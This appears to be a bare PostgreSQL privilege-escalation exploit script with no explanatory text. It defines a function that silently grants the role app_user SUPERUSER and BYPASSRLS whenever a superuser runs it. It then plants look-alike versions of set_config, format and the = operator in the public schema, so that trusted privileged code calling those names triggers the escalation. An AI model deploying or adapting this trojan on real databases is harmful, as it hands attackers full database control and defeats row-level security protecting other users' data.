CREATE FUNCTION public.climb() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        EXECUTE 'ALTER ROLE app_user SUPERUSER BYPASSRLS';
    END IF;
END
$$;
CREATE FUNCTION public.set_config(name text, value text, local boolean) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.climb();
    RETURN pg_catalog.set_config(name, value, local);
END
$$;
CREATE FUNCTION public.format(pattern text, argument name) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.climb();
    RETURN pg_catalog.format(pattern, argument);
END
$$;
CREATE FUNCTION public.same(a name, b text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.climb();
    RETURN a::text OPERATOR(pg_catalog.=) b;
END
$$;
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);
